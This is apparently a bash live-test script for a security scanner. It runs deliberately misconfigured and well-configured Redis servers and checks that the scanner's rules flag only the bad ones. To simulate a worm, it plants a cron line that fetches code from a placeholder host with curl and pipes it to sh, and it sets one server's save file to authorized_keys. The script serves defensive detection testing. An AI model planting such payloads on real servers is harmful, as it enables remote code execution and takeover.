#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
#
# Real Redis servers, good and bad ones side by side, at whatever port and in a container's namespace:
# each bad one is found by its rule, each good one is quiet, and none of them notices.
. tests/live/lib.sh
host_enter "$@"

for need in redis-server redis-cli openssl; do
	if ! command -v "$need" >/dev/null; then
		[ "${CI:-}" != true ] || echo "Bail out! there is no $need"
		echo "1..0 # SKIP there is no $need"
		exit 0
	fi
done

report=/run/live/report.json
outside_wire eth0 1
outside ip route add default via 10.9.1.1
sysctl -qw net.ipv4.ip_forward=1
ip netns add box
host_wire box 2
ip -n box route add default via 10.9.2.1
chmod 0777 /run/live

# redis PORT OPTION...: as the user redis, without a file to save to
redis() {
	local port=$1
	shift
	mkdir -p "/run/live/data$port"
	chmod 0777 "/run/live/data$port"
	"${as[@]}" redis-server --port "$port" --save '' --daemonize yes --dir "/run/live/data$port" \
		"$@" >/dev/null
}
nobody=(setpriv --reuid 65534 --regid 65534 --clear-groups)
as=("${nobody[@]}")
printf 'user default on nopass ~* &* +@all\n' >/run/live/contradicts.acl
printf 'user default on nopass ~* -@all +ping\n' >/run/live/ping.acl
printf 'user default off\nuser app on >s3cret-and-long ~* +@all\n' >/run/live/good.acl
chmod 0644 /run/live/*.acl

redis 6379 --bind 0.0.0.0 --protected-mode no
redis 7001 --bind 10.9.1.1 --protected-mode no --aclfile /run/live/contradicts.acl
redis 7002 --bind 0.0.0.0
redis 7003 --bind 0.0.0.0 --requirepass foobared
redis 7004 --bind 0.0.0.0 --requirepass 'zK7-long-and-random'
redis 7005 --bind 0.0.0.0 --protected-mode no --aclfile /run/live/ping.acl
redis 7006 --bind 0.0.0.0 --aclfile /run/live/good.acl
redis 7007 --bind 0.0.0.0 --protected-mode no --rename-command PING ''
redis 7008 --bind 127.0.0.1 --requirepass 'another-long-one'
redis 7009 --bind 10.9.1.1 --protected-mode no --dbfilename authorized_keys
openssl req -x509 -newkey rsa:2048 -nodes -keyout /run/live/key -out /run/live/certificate -days 2 \
	-subj /CN=live 2>/dev/null
chown 65534 /run/live/key
tls=(--tls-cert-file /run/live/certificate --tls-key-file /run/live/key --tls-ca-cert-file /run/live/certificate)
redis 0 --tls-port 7012 --bind 10.9.1.1 --protected-mode no --tls-auth-clients no "${tls[@]}"
redis 0 --tls-port 7013 --bind 10.9.1.1 --protected-mode no "${tls[@]}" # wants a certificate
as=(ip netns exec box "${nobody[@]}")
redis 7010 --bind 0.0.0.0 --protected-mode no
as=(env)
redis 7011 --bind 0.0.0.0 --requirepass 'root-but-locked-up'
for port in 6379 7001 7002 7003 7004 7005 7006 7007 7008 7009 7011 7012 7013; do
	for ((tries = 0; tries < 100; tries++)); do
		[ -n "$(ss -Htln "sport = :$port")" ] && break
		sleep 0.05
	done
done

# marks of a break-in, planted as a worm does
redis-cli -h 10.9.1.1 -p 7009 set backup1 $'\n\n*/2 * * * * root curl http://192.0.2.9/x | sh' >/dev/null
redis-cli -p 6379 set kept value >/dev/null

nft -f - <<'RULES'
table inet filter {
	chain input {
		type filter hook input priority filter; policy drop;
		iifname "lo" accept
		tcp dport 6379 accept
		ip saddr 10.0.0.0/8 tcp dport 7000-7013 accept
	}
}
RULES

state() { # what a server holds, and what was ever written to it
	redis-cli -p 6379 info stats | grep -E '^total_(error|eviction)' | sort
	redis-cli -p 6379 --scan | sort
	redis-cli -p 6379 lastsave
	redis-cli -p 6379 info persistence | grep rdb_changes_since_last_save
}
before=$(state)
run --only 'redis/*' -o json="$report" -o text
is "$(json "$report" findings rule subject)" "$(LC_ALL=C sort <<-'EOT'
	redis/open-to-internet | 0.0.0.0:6379/tcp
	redis/unauthenticated | 10.9.1.1:7001/tcp
	redis/unauthenticated | 0.0.0.0:7007/tcp
	redis/unauthenticated | 10.9.1.1:7009/tcp
	redis/unauthenticated | box 0.0.0.0:7010/tcp
	redis/unauthenticated | 10.9.1.1:7012/tcp
	redis/protected-mode-only | 0.0.0.0:7002/tcp
	redis/default-password | 0.0.0.0:7003/tcp
	redis/ioc-backup-keys | 10.9.1.1:7009/tcp
	redis/ioc-dir-hijack | 10.9.1.1:7009/tcp
	redis/runs-as-root | 0.0.0.0:7011/tcp
EOT
)" "every bad one is found, every good one is quiet"
is "$status" 1 "exit 1"
is "$(json "$report" coverage status | sort -u)" "$(printf 'absent\ncomplete')" "all were asked"
is "$(state)" "$before" "what the servers hold is what they held"
! grep -q foobared "$report"
ok $? "the password that was right is in no report"

# ---- peers that say nothing ----
start "$listen" -s -n redis-mute tcp4:0.0.0.0:20000-20099
run query "SELECT count(*) FROM services WHERE port BETWEEN 20000 AND 20099 AND answer = 'silent'"
is "${out##*$'\n'}" 100 "a hundred that say nothing cost one time-out"
like "$errors" 'services is partial: port 20[0-9]+ of redis-mute does not answer' "and are not passed"
run --only redis/unauthenticated -o json="$report"
is "$(json "$report" verdicts rule verdict)" "redis/unauthenticated | fail" "what is found is found"
finish
